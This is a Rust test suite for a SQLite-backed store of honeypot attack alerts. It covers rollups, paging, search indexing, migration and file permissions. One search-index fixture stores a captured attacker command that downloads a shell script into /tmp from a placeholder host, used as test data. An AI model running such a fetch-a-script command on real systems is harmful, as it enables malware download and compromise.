//! Tests against real SQLite files in temporary directories.

use super::*;
use crate::domain::{
    AlertCursor, DataDomain, SearchText, TimeField, TimeRange, TokenHash, UNDEFINED_HOSTNAME,
    rank_terms,
};
use ipnet::IpNet;
use std::collections::{BTreeMap, BTreeSet, HashMap};
use std::net::IpAddr;

const T0: i64 = 1_717_200_000; // 2024-06-01 00:00:00

fn ts(s: i64) -> Timestamp {
    Timestamp::from_unix(s)
}

fn full_alert(id: &str) -> Alert {
    Alert {
        id: id.to_owned(),
        country: "US".into(),
        country_name: "United States".into(),
        vulnid: "".into(),
        original_request_string: "['uname -a']".into(),
        source_entry_as: "AS15169 GOOGLE".into(),
        create_time: ts(T0 + 100),
        client_domain: true,
        peer_ident: "cowrie-community-01".into(),
        peer_type: "SSH/console(cowrie)".into(),
        client: "-".into(),
        location: "37.751 , -97.822".into(),
        location_destination: "51.2993 , 9.491".into(),
        source_entry_ip: "8.8.8.8".parse().unwrap(),
        source_entry_port: Some("50522".into()),
        additional_data: "{\"protocol\": \"ssh\"}".into(),
        target_entry_ip: "87.150.238.182".parse().unwrap(),
        target_entry_port: Some("22".into()),
        target_country: "DE".into(),
        target_country_name: "Germany".into(),
        target_entry_as: "AS3320 Deutsche Telekom AG".into(),
        username: Some("root".into()),
        password: None,
        login: Some("".into()),
        targetport: Some("tcp".into()),
        client_version: None,
        session_start: "".into(),
        session_end: "2024-06-01 00:01:00".into(),
        recieved_time: ts(T0 + 107),
        external_ip: "87.150.238.182".into(),
        internal_ip: "10.0.0.5".into(),
        hostname: "tpot-host".into(),
        rawhttp: "-".into(),
    }
}

fn open() -> (tempfile::TempDir, EmbeddedStore) {
    let dir = tempfile::tempdir().unwrap();
    let store = EmbeddedStore::open(dir.path()).unwrap();
    (dir, store)
}

async fn put(store: &EmbeddedStore, alerts: Vec<Alert>) -> WriteOutcome {
    store
        .write(WriteBatch {
            alerts,
            cve_copies: vec![],
        })
        .await
        .unwrap()
}

#[tokio::test]
async fn full_alert_round_trips() {
    let (_dir, store) = open();
    let a = full_alert("a1");
    let mut b = full_alert("b1");
    b.username = None;
    b.password = Some("".into());
    b.target_entry_port = None;
    b.source_entry_ip = "2001:db8::1".parse().unwrap();
    let out = put(&store, vec![a.clone(), b.clone()]).await;
    assert_eq!(out.created, 2);
    let got = store
        .alerts_by_id(&["b1".into(), "zz".into(), "a1".into()])
        .await
        .unwrap();
    assert_eq!(got, vec![b.clone(), a.clone()]);
    assert_eq!(got[0].to_document(), b.to_document());
}

#[tokio::test]
async fn cve_copies_are_stored_once_per_vulnid() {
    let (_dir, store) = open();
    let mut c = full_alert("c1");
    c.vulnid = "CVE-2017-0144".into();
    let mut d = c.clone();
    d.id = "c2".into();
    let out = store
        .write(WriteBatch {
            alerts: vec![],
            cve_copies: vec![c.clone(), d],
        })
        .await
        .unwrap();
    assert_eq!(out.cve_copies, 1);
    let out = store
        .write(WriteBatch {
            alerts: vec![],
            cve_copies: vec![c],
        })
        .await
        .unwrap();
    assert_eq!(out.cve_copies, 0);
}

#[tokio::test]
async fn replace_does_not_double_count() {
    let (_dir, store) = open();
    let a = full_alert("a1");
    put(&store, vec![a.clone()]).await;
    let mut b = a.clone();
    b.peer_type = "Webpage".into();
    b.country = "CN".into();
    b.country_name = "China".into();
    b.recieved_time = ts(T0 + 2 * 86_400 + 5);
    b.create_time = ts(T0 + 86_400 + 5);
    b.hostname = UNDEFINED_HOSTNAME.into();
    let out = put(&store, vec![b.clone(), b.clone()]).await;
    assert_eq!((out.created, out.replaced), (0, 2));
    let all = AlertFilter::domain(DataDomain::All);
    assert_eq!(store.count(&all).await.unwrap(), 1);
    let day = AlertFilter::domain(DataDomain::Community).within(
        TimeField::Received,
        TimeRange::between(ts(T0), ts(T0 + 86_400)),
    );
    assert_eq!(store.count(&day).await.unwrap(), 0);
    let terms = store
        .terms(&all, TermField::SourceCountry, 10)
        .await
        .unwrap();
    assert_eq!(
        terms,
        vec![TermCount {
            key: "CN".into(),
            count: 1,
            label: Some("China".into())
        }]
    );
    let types = store.terms(&all, TermField::PeerType, 10).await.unwrap();
    assert_eq!(types.len(), 1);
    assert_eq!(types[0].key, "Webpage");
    let hist = store
        .histogram(&HistogramQuery {
            filter: all.clone(),
            field: TimeField::Created,
            interval_seconds: 86_400,
            split: Some((TermField::PeerType, 10)),
        })
        .await
        .unwrap();
    assert_eq!(hist.len(), 1);
    assert_eq!(hist[0].start, ts(T0 + 86_400));
    assert_eq!(hist[0].count, 1);
    let inst = store.installations(&all).await.unwrap();
    assert_eq!(inst.len(), 1);
    assert_eq!(inst[0].hostname, None);
    assert_eq!(inst[0].target_ip.as_deref(), Some("87.150.238.182"));
    assert_eq!(inst[0].daemons[0].count, 1);
    assert_eq!(store.alerts_by_id(&["a1".into()]).await.unwrap(), vec![b]);
}

#[tokio::test]
async fn cursor_paging_and_networks() {
    let (_dir, store) = open();
    let mut alerts = Vec::new();
    for i in 0..25 {
        let mut a = full_alert(&format!("id{i:02}"));
        a.recieved_time = ts(T0 + (i / 3) as i64); // ties of three
        a.source_entry_ip = if i % 2 == 0 {
            format!("10.0.{}.{}", i, i).parse().unwrap()
        } else {
            format!("2001:db8::{i:x}").parse().unwrap()
        };
        alerts.push(a);
    }
    put(&store, alerts.clone()).await;
    let mut expected = alerts.clone();
    expected.sort_by(|a, b| {
        b.recieved_time
            .cmp(&a.recieved_time)
            .then_with(|| b.id.cmp(&a.id))
    });
    let mut seen = Vec::new();
    let mut after = None;
    loop {
        let page = store
            .alerts(&AlertPage {
                filter: AlertFilter::domain(DataDomain::Community),
                order_by: TimeField::Received,
                limit: 4,
                after: after.clone(),
            })
            .await
            .unwrap();
        if page.is_empty() {
            break;
        }
        let last = page.last().unwrap();
        after = Some(AlertCursor {
            time: last.recieved_time,
            id: last.id.clone(),
        });
        seen.extend(page);
    }
    assert_eq!(seen, expected);
    for (net, n) in [
        ("10.0.0.0/16", 13),
        ("10.0.4.0/22", 2),
        ("2001:db8::/32", 12),
        ("0.0.0.0/0", 13),
    ] {
        let mut f = AlertFilter::domain(DataDomain::All);
        f.source_net = Some(net.parse::<IpNet>().unwrap());
        assert_eq!(store.count(&f).await.unwrap(), n, "{net}");
    }
    let one = AlertFilter::domain(DataDomain::All).matching(TermField::SourceIp, "2001:db8::b");
    assert_eq!(store.count(&one).await.unwrap(), 1);
}

#[tokio::test]
async fn statistics_by_range() {
    let (_dir, store) = open();
    let doc = |from: &str, ratio: f64| {
        let mut d = StatisticsDocument::new();
        d.insert("UTCtimeFrom".into(), from.into());
        d.insert("comm_totalRatio".into(), ratio.into());
        d
    };
    let n = store
        .write_statistics(vec![
            ("b".into(), doc("2019-01-22 15:05:00", 1.0)),
            ("a".into(), doc("2019-01-22 15:00:00", 2.0)),
            ("c".into(), doc("2019-01-22 15:10:00", 3.0)),
            ("x".into(), doc("garbage", 4.0)),
            ("b".into(), doc("2019-01-22 15:05:00", 5.0)),
        ])
        .await
        .unwrap();
    assert_eq!(n, 5);
    let from = Timestamp::parse_legacy("2019-01-22 15:00:00").unwrap();
    let to = Timestamp::parse_legacy("2019-01-22 15:05:00").unwrap();
    let got = store.statistics(from, to).await.unwrap();
    assert_eq!(
        got,
        vec![
            doc("2019-01-22 15:00:00", 2.0),
            doc("2019-01-22 15:05:00", 5.0)
        ]
    );
}

#[tokio::test]
async fn users_add_remove_list() {
    let (_dir, store) = open();
    let user = |name: &str| User {
        name: UserName::parse(name).unwrap(),
        token: TokenHash::from_stored(&"a".repeat(128)),
        read_only: false,
        community_only: true,
        email: "x@example.org".into(),
    };
    store.add_user(&user("bob")).await.unwrap();
    store.add_user(&user("alice")).await.unwrap();
    assert!(matches!(
        store.add_user(&user("bob")).await,
        Err(StoreError::UserExists(_))
    ));
    assert_eq!(
        store.users().await.unwrap(),
        vec![user("alice"), user("bob")]
    );
    let bob = UserName::parse("bob").unwrap();
    assert_eq!(store.user(&bob).await.unwrap(), Some(user("bob")));
    assert!(store.remove_user(&bob).await.unwrap());
    assert!(!store.remove_user(&bob).await.unwrap());
    assert_eq!(store.user(&bob).await.unwrap(), None);
    store.ping().await.unwrap();
}

#[tokio::test]
async fn survives_reopen() {
    let dir = tempfile::tempdir().unwrap();
    {
        let store = EmbeddedStore::open(dir.path()).unwrap();
        put(&store, vec![full_alert("a1")]).await;
    }
    let store = EmbeddedStore::open(dir.path()).unwrap();
    assert_eq!(
        store.alerts_by_id(&["a1".into()]).await.unwrap(),
        vec![full_alert("a1")]
    );
    assert_eq!(
        store
            .count(&AlertFilter::domain(DataDomain::Community))
            .await
            .unwrap(),
        1
    );
}

#[test]
fn windows_split_into_buckets_and_edges() {
    use rollup::{DAY, HOUR, Span, decompose};
    let p = decompose(
        Span {
            lo: DAY - 10,
            hi: 3 * DAY + HOUR + 5,
        },
        &[DAY, HOUR],
    );
    assert_eq!(
        p.rollups,
        vec![
            (
                DAY,
                Span {
                    lo: DAY,
                    hi: 3 * DAY
                }
            ),
            (
                HOUR,
                Span {
                    lo: 3 * DAY,
                    hi: 3 * DAY + HOUR
                }
            ),
        ]
    );
    assert_eq!(
        p.raws,
        vec![
            Span {
                lo: DAY - 10,
                hi: DAY
            },
            Span {
                lo: 3 * DAY + HOUR,
                hi: 3 * DAY + HOUR + 5
            },
        ]
    );
    let open = decompose(
        Span {
            lo: i64::MIN,
            hi: i64::MAX,
        },
        &[DAY, HOUR],
    );
    assert_eq!(
        open.rollups,
        vec![(
            DAY,
            Span {
                lo: i64::MIN,
                hi: i64::MAX
            }
        )]
    );
    assert!(open.raws.is_empty());
}

// ---------------------------------------------------------------------------------------
// Randomised equivalence of the rollup path with a brute-force computation.

struct XorShift(u64);

impl XorShift {
    fn next(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        self.0 = x;
        x
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }
    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len() as u64) as usize]
    }
    fn chance(&mut self, percent: u64) -> bool {
        self.below(100) < percent
    }
}

const TYPES: &[&str] = &[
    "Webpage",
    "SSH/console(cowrie)",
    "Network(Dionaea)",
    "Passwords(heralding)",
    "Unclassified",
];
const COUNTRIES: &[(&str, &str)] = &[
    ("CN", "China"),
    ("US", "United States"),
    ("DE", "Germany"),
    ("PIR", "IANA Private IP Range"),
    ("-", "-"),
    ("XX", "Xa"),
    ("XX", "Xb"),
];
const PORTS: &[&str] = &["22", "80", "445", "23", "undefined"];
const REQUESTS: &[&str] = &[
    "/",
    "/wp-login.php",
    "/xmlrpc.php",
    "",
    "Attack on port 445/tcp",
];
const LOCATIONS: &[&str] = &["39.9 , 116.4", "0.0 , 0.0", "37.7 , -97.8", "51.0 , 8.7"];
const HOSTS: &[&str] = &["undefined", "undefined", "tpot-a", "tpot-b", "tpot-c"];
const TARGETS: &[&str] = &["87.150.238.1", "87.150.238.2", "192.0.2.7"];
const IDENTS: &[&str] = &["cowrie-01", "dionaea-01", "heralding-01", "glutton-01"];

fn random_alert(rng: &mut XorShift, id: String) -> Alert {
    let mut a = full_alert(&id);
    let rt = T0 + rng.below(5 * 86_400) as i64;
    a.recieved_time = ts(rt);
    a.create_time = ts(rt - rng.below(3 * 3_600) as i64 + 600);
    a.client_domain = rng.chance(75);
    a.peer_type = rng.pick(TYPES).to_string();
    let (c, n) = rng.pick(COUNTRIES);
    a.country = c.to_string();
    a.country_name = n.to_string();
    let (c, n) = rng.pick(COUNTRIES);
    a.target_country = c.to_string();
    a.target_country_name = n.to_string();
    a.target_entry_port = rng.chance(85).then(|| rng.pick(PORTS).to_string());
    a.original_request_string = rng.pick(REQUESTS).to_string();
    a.location = rng.pick(LOCATIONS).to_string();
    a.location_destination = rng.pick(LOCATIONS).to_string();
    a.hostname = rng.pick(HOSTS).to_string();
    a.target_entry_ip = rng.pick(TARGETS).parse().unwrap();
    a.peer_ident = rng.pick(IDENTS).to_string();
    a.source_entry_ip = if rng.chance(90) {
        format!("10.{}.{}.{}", rng.below(3), rng.below(4), rng.below(20))
            .parse()
            .unwrap()
    } else {
        format!("2001:db8::{:x}", rng.below(30)).parse().unwrap()
    };
    a
}

fn value_of(a: &Alert, field: TermField) -> Option<String> {
    Some(match field {
        TermField::PeerType => a.peer_type.clone(),
        TermField::PeerIdent => a.peer_ident.clone(),
        TermField::SourceCountry => a.country.clone(),
        TermField::TargetCountry => a.target_country.clone(),
        TermField::SourceLocation => a.location.clone(),
        TermField::TargetLocation => a.location_destination.clone(),
        TermField::SourceIp => a.source_entry_ip.to_string(),
        TermField::RequestString => a.original_request_string.clone(),
        TermField::TargetPort => return a.target_entry_port.clone(),
        TermField::Hostname => a.hostname.clone(),
        TermField::Username => return a.username.clone(),
        TermField::Password => return a.password.clone(),
        TermField::SourceAs => a.source_entry_as.clone(),
        TermField::Cve => a.vulnid.clone(),
    })
}

fn label_of(a: &Alert, field: TermField) -> Option<String> {
    match field {
        TermField::SourceCountry => Some(a.country_name.clone()),
        TermField::TargetCountry => Some(a.target_country_name.clone()),
        _ => None,
    }
}

fn time_of(a: &Alert, field: TimeField) -> Timestamp {
    match field {
        TimeField::Created => a.create_time,
        TimeField::Received => a.recieved_time,
    }
}

fn matches(a: &Alert, f: &AlertFilter) -> bool {
    f.domain.includes(a.client_domain)
        && f.received.contains(a.recieved_time)
        && f.created.contains(a.create_time)
        && f.equals
            .iter()
            .all(|(field, v)| value_of(a, *field).as_deref() == Some(v.as_str()))
        && f.source_net
            .is_none_or(|n: IpNet| n.contains(&a.source_entry_ip))
}

fn bf_terms<'a>(
    alerts: impl Iterator<Item = &'a Alert>,
    field: TermField,
    limit: usize,
) -> Vec<TermCount> {
    let mut map: BTreeMap<String, (u64, Option<String>)> = BTreeMap::new();
    for a in alerts {
        if let Some(key) = value_of(a, field) {
            let e = map.entry(key).or_insert((0, None));
            e.0 += 1;
            let label = label_of(a, field);
            e.1 = match (e.1.take(), label) {
                (Some(x), Some(y)) => Some(x.min(y)),
                (x, y) => x.or(y),
            };
        }
    }
    let mut terms: Vec<TermCount> = map
        .into_iter()
        .map(|(key, (count, label))| TermCount { key, count, label })
        .collect();
    rank_terms(&mut terms);
    terms.truncate(limit);
    terms
}

fn bf_histogram(alerts: &[&Alert], q: &HistogramQuery) -> Vec<HistogramBucket> {
    let mut buckets: BTreeMap<Timestamp, Vec<&Alert>> = BTreeMap::new();
    for a in alerts.iter().filter(|a| matches(a, &q.filter)) {
        buckets
            .entry(time_of(a, q.field).floor_to(q.interval_seconds))
            .or_default()
            .push(a);
    }
    buckets
        .into_iter()
        .map(|(start, items)| HistogramBucket {
            start,
            count: items.len() as u64,
            split: q
                .split
                .map(|(field, n)| bf_terms(items.iter().copied(), field, n))
                .unwrap_or_default(),
        })
        .collect()
}

fn bf_installations(alerts: &[&Alert], f: &AlertFilter) -> Vec<Installation> {
    let mut map: BTreeMap<(bool, String), Vec<&Alert>> = BTreeMap::new();
    for a in alerts.iter().filter(|a| matches(a, f)) {
        let key = if a.hostname == UNDEFINED_HOSTNAME {
            (true, a.target_entry_ip.to_string())
        } else {
            (false, a.hostname.clone())
        };
        map.entry(key).or_default().push(a);
    }
    map.into_iter()
        .map(|((by_ip, key), items)| Installation {
            hostname: (!by_ip).then(|| key.clone()),
            target_ip: by_ip.then_some(key),
            daemons: bf_terms(items.iter().copied(), TermField::PeerIdent, usize::MAX),
            peer_types: items
                .iter()
                .map(|a| a.peer_type.clone())
                .collect::<BTreeSet<_>>()
                .into_iter()
                .collect(),
        })
        .collect()
}

fn random_range(rng: &mut XorShift) -> TimeRange {
    let point = |rng: &mut XorShift| -> i64 {
        let base = T0 - 86_400 + rng.below(8 * 86_400) as i64;
        match rng.below(4) {
            0 => base - base.rem_euclid(86_400),
            1 => base - base.rem_euclid(3_600),
            _ => base,
        }
    };
    let from = (!rng.chance(15)).then(|| point(rng));
    let to = match (from, rng.below(4)) {
        (_, 0) => None,
        (Some(f), 1) => Some(f + rng.below(3 * 3_600) as i64),
        _ => Some(point(rng)),
    };
    TimeRange {
        from: from.map(ts),
        to: to.map(ts),
    }
}

#[tokio::test]
async fn rollups_agree_with_brute_force() {
    let (_dir, store) = open();
    let mut rng = XorShift(0x9E37_79B9_7F4A_7C15);
    let mut truth: HashMap<String, Alert> = HashMap::new();
    let mut next_id = 0;
    for _ in 0..60 {
        let size = 1 + rng.below(120) as usize;
        let mut batch = Vec::new();
        for _ in 0..size {
            let id = if next_id > 0 && rng.chance(12) {
                format!("id{}", rng.below(next_id))
            } else {
                next_id += 1;
                format!("id{}", next_id - 1)
            };
            let a = random_alert(&mut rng, id);
            // Another sender's alert with this id stays; this one goes beside it.
            let mut placed = a.clone();
            while truth
                .get(&placed.id)
                .is_some_and(|old| old.submitter() != placed.submitter())
            {
                placed.id = placed.id_beside();
            }
            truth.insert(placed.id.clone(), placed);
            batch.push(a);
        }
        put(&store, batch).await;
    }
    let alerts: Vec<&Alert> = truth.values().collect();
    let all = AlertFilter::domain(DataDomain::All);
    assert_eq!(store.count(&all).await.unwrap(), alerts.len() as u64);
    let fields = [
        TermField::PeerType,
        TermField::PeerIdent,
        TermField::SourceCountry,
        TermField::TargetCountry,
        TermField::SourceLocation,
        TermField::TargetLocation,
        TermField::SourceIp,
        TermField::RequestString,
        TermField::TargetPort,
        TermField::Hostname,
    ];
    for round in 0..150 {
        let domain = *rng.pick(&[DataDomain::Community, DataDomain::Private, DataDomain::All]);
        let tf = *rng.pick(&[TimeField::Received, TimeField::Created]);
        let mut filter = AlertFilter::domain(domain).within(tf, random_range(&mut rng));
        if round % 10 == 9 {
            // Both windows: the raw path.
            let other = if tf == TimeField::Received {
                TimeField::Created
            } else {
                TimeField::Received
            };
            filter = filter.within(other, random_range(&mut rng));
        }
        if round % 7 == 6 {
            filter.source_net = Some(
                rng.pick(&["10.1.0.0/16", "10.0.2.0/23", "2001:db8::/120"])
                    .parse()
                    .unwrap(),
            );
        }
        let sel = |f: &AlertFilter| {
            alerts
                .iter()
                .copied()
                .filter(|a| matches(a, f))
                .collect::<Vec<_>>()
        };
        let ctx = format!("round {round}: {filter:?}");

        // Counts, plain and with the equals conditions rollups absorb.
        let mut variants = vec![filter.clone()];
        variants.push(
            filter
                .clone()
                .matching(TermField::PeerType, *rng.pick(TYPES)),
        );
        variants.push(
            filter
                .clone()
                .matching(TermField::SourceCountry, rng.pick(COUNTRIES).0),
        );
        variants.push(
            filter
                .clone()
                .matching(TermField::TargetPort, *rng.pick(PORTS)),
        );
        variants.push(
            filter
                .clone()
                .matching(TermField::SourceLocation, *rng.pick(LOCATIONS)),
        );
        variants.push(
            filter
                .clone()
                .matching(TermField::PeerType, "Webpage")
                .matching(TermField::RequestString, *rng.pick(REQUESTS)),
        );
        variants.push(
            filter
                .clone()
                .matching(TermField::Hostname, *rng.pick(HOSTS)),
        );
        for f in &variants {
            assert_eq!(
                store.count(f).await.unwrap(),
                sel(f).len() as u64,
                "count {ctx} {f:?}"
            );
        }

        for field in fields {
            let limit = 1 + rng.below(12) as usize;
            let expected = bf_terms(sel(&filter).into_iter(), field, limit);
            assert_eq!(
                store.terms(&filter, field, limit).await.unwrap(),
                expected,
                "terms {field:?} {ctx}"
            );
        }
        let web = filter.clone().matching(TermField::PeerType, "Webpage");
        assert_eq!(
            store
                .terms(&web, TermField::RequestString, 30)
                .await
                .unwrap(),
            bf_terms(sel(&web).into_iter(), TermField::RequestString, 30),
            "web requests {ctx}"
        );

        for interval in [3_600, 6 * 3_600, 86_400, 1_800] {
            let split = *rng.pick(&[
                None,
                Some((TermField::PeerType, 3)),
                Some((TermField::SourceCountry, 2)),
                Some((TermField::TargetPort, 10)),
            ]);
            for hist_filter in [&filter, &variants[5]] {
                let q = HistogramQuery {
                    filter: hist_filter.clone(),
                    field: if rng.chance(80) {
                        tf
                    } else {
                        TimeField::Received
                    },
                    interval_seconds: interval,
                    split,
                };
                assert_eq!(
                    store.histogram(&q).await.unwrap(),
                    bf_histogram(&alerts, &q),
                    "histogram {q:?}"
                );
            }
        }

        assert_eq!(
            store.installations(&filter).await.unwrap(),
            bf_installations(&alerts, &filter),
            "installations {ctx}"
        );

        let limit = 1 + rng.below(20) as usize;
        let mut listing = sel(&filter);
        listing.sort_by(|a, b| {
            time_of(b, tf)
                .cmp(&time_of(a, tf))
                .then_with(|| b.id.cmp(&a.id))
        });
        let page = store
            .alerts(&AlertPage {
                filter: filter.clone(),
                order_by: tf,
                limit,
                after: None,
            })
            .await
            .unwrap();
        let expected: Vec<Alert> = listing.iter().take(limit).map(|a| (*a).clone()).collect();
        assert_eq!(page, expected, "alerts {ctx}");
    }
}

#[test]
fn ip_keys_order_like_addresses() {
    let mut ips: Vec<IpAddr> = [
        "10.0.0.1",
        "9.255.255.255",
        "10.0.1.0",
        "::1",
        "2001:db8::1",
    ]
    .iter()
    .map(|s| s.parse().unwrap())
    .collect();
    ips.sort();
    let keys: Vec<Vec<u8>> = ips.iter().map(|ip| codec::ip_key(*ip)).collect();
    let mut sorted = keys.clone();
    sorted.sort();
    assert_eq!(keys, sorted);
}

#[tokio::test]
async fn typical_questions_use_rollups() {
    let (dir, store) = open();
    let mut a = full_alert("a1");
    a.recieved_time = ts(T0 + 5 * 3_600 + 7);
    a.create_time = ts(T0 + 3 * 3_600 + 7);
    put(&store, vec![a]).await;
    // Inflate every counter: answers that change came from the rollups.
    let conn = rusqlite::Connection::open(dir.path().join(DATABASE_FILE)).unwrap();
    conn.execute("UPDATE rollup SET n = n + 1000", []).unwrap();
    let day = TimeRange::between(ts(T0), ts(T0 + 86_400));
    let received = AlertFilter::domain(DataDomain::Community).within(TimeField::Received, day);
    let created = AlertFilter::domain(DataDomain::Community).within(TimeField::Created, day);
    assert_eq!(store.count(&received).await.unwrap(), 1001);
    let types = store
        .terms(&received, TermField::PeerType, 10)
        .await
        .unwrap();
    assert_eq!(types[0].count, 1001);
    let locations = store
        .terms(&created, TermField::SourceLocation, 10)
        .await
        .unwrap();
    assert_eq!(locations[0].count, 1001);
    for field in [TermField::SourceLocation, TermField::TargetLocation] {
        let by_receipt = store.terms(&received, field, 10).await.unwrap();
        assert_eq!(by_receipt[0].count, 1001, "{field:?} by received time");
    }
    let inst = store.installations(&received).await.unwrap();
    assert_eq!(inst[0].daemons[0].count, 1001);
    // Raw scans of edges: a window inside one hour sees the real row.
    let inside = AlertFilter::domain(DataDomain::Community).within(
        TimeField::Received,
        TimeRange::between(ts(T0 + 5 * 3_600), ts(T0 + 5 * 3_600 + 60)),
    );
    assert_eq!(store.count(&inside).await.unwrap(), 1);
    let plan = |sql: &str| -> String {
        let mut stmt = conn.prepare(&format!("EXPLAIN QUERY PLAN {sql}")).unwrap();
        let rows = stmt.query_map([], |r| r.get::<_, String>(3)).unwrap();
        rows.map(|r| r.unwrap()).collect::<Vec<_>>().join("; ")
    };
    let keyed = plan(
        "SELECT bucket, SUM(n) FROM rollup INDEXED BY rollup_keyed WHERE tf = 0 AND dim = 4 AND gran = 3600 \
         AND bucket >= 0 AND bucket < 99999999 AND k1 = '22' AND dim IN (1, 4, 5) GROUP BY bucket",
    );
    assert!(keyed.contains("rollup_keyed"), "{keyed}");
    let latest = plan("SELECT id FROM alerts WHERE dom = 1 ORDER BY rt DESC, id DESC LIMIT 5");
    assert!(latest.contains("alerts_rt"), "{latest}");
}

/// Turns a database back into the layout before version 3 (no search index).
const WITHOUT_SEARCH_INDEX: &str = "DROP TRIGGER alert_text_insert; DROP TRIGGER alert_text_update; \
     DROP TRIGGER alert_text_delete; DROP TABLE alert_text;";

fn text_filter(text: &str) -> AlertFilter {
    let mut filter = AlertFilter::domain(DataDomain::All);
    filter.text = Some(SearchText::parse(text).unwrap());
    filter
}

#[tokio::test]
async fn the_search_index_follows_inserts_replacements_and_retention() {
    let (_dir, store) = open();
    let mut a = full_alert("t1");
    a.original_request_string = "cd /tmp; /usr/bin/WGET -q http://x/y.sh".into();
    let mut b = full_alert("t2");
    b.original_request_string = "GET / HTTP/1.1".into();
    b.username = Some("Wgetter".into());
    b.password = Some("\"quoted\" OR pass".into());
    b.recieved_time = ts(T0 + 10_000);
    put(&store, vec![a.clone(), b]).await;
    let count = |text: &'static str| {
        let store = &store;
        async move { store.count(&text_filter(text)).await.unwrap() }
    };
    assert_eq!(count("wget").await, 2);
    assert_eq!(count("WGET -Q").await, 1);
    assert_eq!(count("\"quoted\" or").await, 1);
    assert_eq!(count("\" OR \"").await, 0);
    assert_eq!(count("NEAR(wget").await, 0);
    // A replacement by the same sender re-indexes the alert.
    a.original_request_string = "uname -a".into();
    put(&store, vec![a]).await;
    assert_eq!(count("wget").await, 1);
    assert_eq!(count("UNAME").await, 1);
    // Retention takes the alert's index entries along.
    assert_eq!(
        crate::retention::pass(&store, ts(T0 + 5_000))
            .await
            .unwrap(),
        1
    );
    assert_eq!(count("uname").await, 0);
    assert_eq!(count("wget").await, 1);
}

#[test]
fn a_selective_search_reads_the_search_index_first() {
    let (dir, _store) = open();
    let conn = rusqlite::Connection::open(dir.path().join(DATABASE_FILE)).unwrap();
    // The statement shapes of `read::raw_rows` for a count and a page with a text filter.
    let text = "rowid IN (SELECT rowid FROM alert_text WHERE alert_text MATCH '\"wget\"')";
    for sql in [
        format!("SELECT COUNT(*) FROM alerts WHERE 1 AND dom = 1 AND rt >= 0 AND {text}"),
        format!(
            "SELECT id FROM alerts WHERE 1 AND rt >= 0 AND {text} ORDER BY rt DESC, id DESC LIMIT 35"
        ),
    ] {
        let mut stmt = conn.prepare(&format!("EXPLAIN QUERY PLAN {sql}")).unwrap();
        let plan = stmt
            .query_map([], |r| r.get::<_, String>(3))
            .unwrap()
            .map(Result::unwrap)
            .collect::<Vec<_>>()
            .join("; ");
        assert!(
            plan.contains("SCAN alert_text VIRTUAL TABLE INDEX")
                && plan.contains("SEARCH alerts USING INTEGER PRIMARY KEY (rowid=?)"),
            "{sql}: {plan}"
        );
    }
}

#[tokio::test]
async fn version_1_databases_get_the_received_location_rollups() {
    let (dir, store) = open();
    let mut rng = XorShift(0x2545_F491_4F6C_DD1D);
    let alerts = (0..300)
        .map(|i| random_alert(&mut rng, format!("m{i}")))
        .collect();
    put(&store, alerts).await;
    drop(store);
    let path = dir.path().join(DATABASE_FILE);
    let snapshot = |conn: &rusqlite::Connection| -> Vec<(i64, i64, i64, i64, String, i64)> {
        let mut stmt = conn
            .prepare(
                "SELECT dim, gran, bucket, dom, k1, n FROM rollup WHERE tf = 0 AND dim IN (8, 9) \
                 ORDER BY dim, gran, bucket, dom, k1",
            )
            .unwrap();
        stmt.query_map([], |r| {
            Ok((
                r.get(0)?,
                r.get(1)?,
                r.get(2)?,
                r.get(3)?,
                r.get(4)?,
                r.get(5)?,
            ))
        })
        .unwrap()
        .map(Result::unwrap)
        .collect()
    };
    let written = {
        let conn = rusqlite::Connection::open(&path).unwrap();
        let written = snapshot(&conn);
        assert!(written.len() > 10, "the writes maintain the rollups");
        // As version 1 left it: no such rollups.
        conn.execute("DELETE FROM rollup WHERE tf = 0 AND dim IN (8, 9)", [])
            .unwrap();
        conn.execute_batch(WITHOUT_SEARCH_INDEX).unwrap();
        conn.pragma_update(None, "user_version", 1).unwrap();
        written
    };
    drop(EmbeddedStore::open(dir.path()).unwrap());
    let conn = rusqlite::Connection::open(&path).unwrap();
    assert_eq!(
        snapshot(&conn),
        written,
        "the migration fills what writes would have"
    );
    let version: i64 = conn
        .query_row("PRAGMA user_version", [], |r| r.get(0))
        .unwrap();
    assert_eq!(version, schema::SCHEMA_VERSION);
}

#[cfg(unix)]
#[tokio::test]
async fn store_files_are_readable_by_their_owner_only() {
    use std::os::unix::fs::PermissionsExt;
    let (dir, store) = open();
    put(&store, vec![full_alert("a")]).await;
    let mode = |name: &str| {
        std::fs::metadata(dir.path().join(name))
            .unwrap_or_else(|e| panic!("{name}: {e}"))
            .permissions()
            .mode()
            & 0o777
    };
    for file in [DATABASE_FILE, "peba.sqlite3-wal", "peba.sqlite3-shm"] {
        assert_eq!(mode(file), 0o600, "{file}");
    }
    // an existing database opened by someone else is tightened on the next open
    drop(store);
    let path = dir.path().join(DATABASE_FILE);
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o644)).unwrap();
    let _again = EmbeddedStore::open(dir.path()).unwrap();
    assert_eq!(mode(DATABASE_FILE), 0o600);
}
